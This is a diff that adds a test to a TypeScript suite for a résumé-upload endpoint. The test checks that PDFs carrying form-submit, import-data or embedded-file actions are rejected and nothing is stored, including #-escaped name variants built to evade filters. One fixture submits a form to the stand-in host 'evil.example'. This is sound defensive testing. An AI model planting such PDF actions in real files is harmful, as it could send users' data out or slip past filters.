@@ -278,6 +278,27 @@ describe.each(testDatabases)("sales applications on %s", (driver) => {
     ).toBe(201);
   });
 
+  it("refuses PDFs that submit forms, import data or carry attached files, also behind #-escaped names, storing nothing", async () => {
+    const cases: [string, Buffer][] = [
+      ["a form that submits", buildPdf("Dana", { objects: ["<< /S /SubmitForm /F (https://evil.example/) >>"] })],
+      ["an import-data action", buildPdf("Dana", { catalog: "/OpenAction << /S /ImportData /F (data.fdf) >> " })],
+      ["attached files", buildPdf("Dana", { catalog: "/Names << /EmbeddedFiles << /Names [] >> >> " })],
+      ["an attachment's file stream", buildPdf("Dana", { objects: ["<< /Type /EmbeddedFile /Length 0 >>"] })],
+      ["a #-escaped form action", buildPdf("Dana", { objects: ["<< /S /Submit#46orm /F (x) >>"] })],
+      ["a #-escaped import action", buildPdf("Dana", { catalog: "/OpenAction << /S /#49mport#44ata >> " })],
+    ];
+    for (const [label, bytes] of cases) {
+      const res = await apply(validFields(), pdf(bytes));
+      expect(res.statusCode, label).toBe(400);
+      expect(res.json(), label).toEqual({ error: `resume: ${RESUME_ACTIVE_CONTENT_MESSAGE}`, field: "resume" });
+    }
+    expect(await stored()).toEqual({ applications: 0, files: 0, trail: 0 });
+    // Words that only look alike are no action.
+    expect((await apply(validFields(), pdf(buildPdf("Dana", { objects: ["<< /SubmitFormat 1 >>"] })))).statusCode).toBe(
+      201,
+    );
+  });
+
   it("answers 413 for a résumé over 5 MB and stores nothing", async () => {
     const big = Buffer.concat([buildPdf("big"), Buffer.alloc(RESUME_MAX_BYTES, 0x20)]);
     const res = await apply(validFields(), pdf(big));
